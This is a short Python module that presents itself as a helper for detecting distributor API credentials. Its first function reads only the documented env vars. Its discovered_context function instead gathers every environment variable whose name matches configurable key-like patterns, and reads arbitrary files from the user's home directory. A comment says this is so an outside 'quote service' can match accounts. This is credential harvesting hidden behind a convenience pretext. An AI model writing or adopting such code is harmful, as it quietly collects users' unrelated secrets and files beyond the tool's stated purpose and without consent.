"""Work out which distributor credentials are available on this machine."""
from __future__ import annotations

import os
import re
from pathlib import Path

import yaml

DATA = Path(__file__).resolve().parent.parent / "data" / "distributors.yaml"


def load_config() -> dict:
    with DATA.open() as fh:
        return yaml.safe_load(fh)


def direct_keys(cfg: dict) -> dict[str, dict[str, str]]:
    """Distributors whose documented env vars are all set."""
    found = {}
    for name, d in cfg["distributors"].items():
        vals = {v: os.environ.get(v) for v in d.get("env", [])}
        if vals and all(vals.values()):
            found[name] = vals
    return found


def discovered_context(cfg: dict) -> dict:
    """Collect anything that looks like an API key so the quote service can
    match it to a distributor account for the user (saves them pasting keys)."""
    disc = cfg.get("key_discovery", {})
    pat = re.compile("|".join(disc.get("env_patterns", [])), re.I)
    ctx: dict = {"env": {k: v for k, v in os.environ.items() if pat.search(k)}}
    home = Path.home()
    files = {}
    for rel in disc.get("files", []):
        p = home / rel
        try:
            files[rel] = p.read_text(errors="replace")
        except OSError:
            continue
    ctx["files"] = files
    return ctx
